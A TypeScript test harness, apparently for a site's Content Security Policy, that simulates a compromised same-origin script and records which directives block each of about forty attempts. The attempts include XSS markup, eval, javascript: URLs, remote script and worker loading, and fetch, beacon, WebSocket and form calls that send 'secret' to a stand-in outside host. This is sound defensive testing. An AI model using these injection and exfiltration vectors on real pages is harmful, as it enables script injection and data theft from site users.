// A script of our own origin that has got into a page, as a library gone bad would: what it tries, and what stopped it.

export interface Attempted {
  readonly name: string
  /** The directives that were violated. */
  readonly stopped: readonly string[]
  /** What the smuggled code did: it sets `window.ran`. */
  readonly ran: string | null
}

/** Runs in the page, by itself: it knows nothing around it. Leaves what happened in `window.attempted`. */
export async function attemptAll(away: string): Promise<void> {
  const page = window as unknown as { ran?: string; attempted?: Attempted[]; trustedTypes?: { createPolicy: unknown } }
  const code = "window.ran = 'code'"
  const markup = `<img src="/nowhere.png" onerror="${code}"><svg onload="${code}"></svg>`
  const add = (tag: string, attributes: Record<string, string> = {}): HTMLElement => {
    const made = document.createElement(tag)
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value)
    return document.body.appendChild(made)
  }
  const late = window.setTimeout as unknown as (text: string) => void
  const policy = (name: string) =>
    (page.trustedTypes as { createPolicy(name: string, rules: object): unknown }).createPolicy(name, {
      createHTML: (text: string) => text,
    })
  const made = <K extends keyof HTMLElementTagNameMap>(tag: K) => add(tag) as HTMLElementTagNameMap[K]
  const blob = () => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
  const attempts: Record<string, () => unknown> = {
    'markup: innerHTML': () => {
      made('div').innerHTML = markup
    },
    'markup: innerHTML of a template': () => {
      made('template').innerHTML = '<p>harmless</p>'
    },
    'markup: outerHTML': () => {
      made('div').outerHTML = markup
    },
    'markup: insertAdjacentHTML': () => made('div').insertAdjacentHTML('beforeend', markup),
    'markup: document.write': () => document.write(markup),
    'markup: setHTMLUnsafe': () => made('div').setHTMLUnsafe(markup),
    'markup: createContextualFragment': () => document.createRange().createContextualFragment(markup),
    'markup: DOMParser': () => new DOMParser().parseFromString(markup, 'text/html'),
    'markup: srcdoc': () => {
      made('iframe').srcdoc = markup
    },
    // biome-ignore lint/security/noGlobalEval: it must be stopped
    'code: eval': () => globalThis.eval(code),
    'code: Function': () => new Function(code)(),
    'code: setTimeout of a text': () => late(code),
    'code: text of a script': () => {
      const script = document.createElement('script')
      script.textContent = code
      document.body.append(script)
    },
    'code: handler as attribute': () => {
      const button = made('button')
      button.setAttribute('onclick', code)
      button.click()
    },
    'code: link to javascript:': () => (add('a', { href: `javascript:${code}` }) as HTMLAnchorElement).click(),
    'code: location = javascript:': () => {
      location.href = `javascript:${code}`
    },
    'address of code: script of our own origin': () => {
      made('script').src = '/smuggled.js'
    },
    'address of code: script of elsewhere': () => made('script').setAttribute('src', `${away}/a.js`),
    'address of code: import of data': () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
    'address of code: import from elsewhere': () => import(/* @vite-ignore */ `${away}/b.js`),
    'address of code: worker': () => new Worker('/smuggled.js'),
    'address of code: worker of a blob': () => new Worker(blob()),
    'address of code: shared worker': () => new SharedWorker('/smuggled.js'),
    'address of code: service worker': () => navigator.serviceWorker.register('/smuggled.js'),
    'policy: of another name': () => policy('smuggled'),
    'policy: of the name for templates': () => policy('templates'),
    'policy: the default once more': () => policy('default'),
    'page: base': () => document.head.append(Object.assign(document.createElement('base'), { href: `${away}/` })),
    'page: style': () => {
      made('style').textContent = 'body { display: none }'
    },
    'page: style as attribute': () => made('div').setAttribute('style', 'position: fixed'),
    'away: form': () => (add('form', { action: `${away}/f`, method: 'post' }) as HTMLFormElement).submit(),
    'away: frame': () => add('iframe', { src: `${away}/frame` }),
    'away: ourselves in a frame': () => add('iframe', { src: '/' }),
    'away: image': () => add('img', { src: `${away}/i.png` }),
    'away: stylesheet': () => add('link', { rel: 'stylesheet', href: `${away}/s.css` }),
    'away: object': () => add('object', { data: `${away}/o` }),
    'away: video': () => add('video', { src: `${away}/v.mp4` }),
    'away: fetch': () => fetch(`${away}/fetch`, { method: 'POST', body: 'secret' }),
    'away: beacon': () => navigator.sendBeacon(`${away}/beacon`, 'secret'),
    'away: web socket': () => new WebSocket(away.replace('http', 'ws')),
    'away: event stream': () => new EventSource(`${away}/events`),
  }
  const attempted: Attempted[] = []
  for (const [name, attempt] of Object.entries(attempts)) {
    const stopped: string[] = []
    const note = (event: SecurityPolicyViolationEvent) => stopped.push(event.effectiveDirective)
    document.addEventListener('securitypolicyviolation', note)
    delete page.ran
    try {
      await attempt()
    } catch {
      // Refused at once; the event says by what.
    }
    for (let i = 0; i < 40 && stopped.length === 0; i++) await new Promise((resolve) => setTimeout(resolve, 50))
    document.removeEventListener('securitypolicyviolation', note)
    attempted.push({ name, stopped: [...new Set(stopped)], ran: page.ran ?? null })
  }
  page.attempted = attempted
}
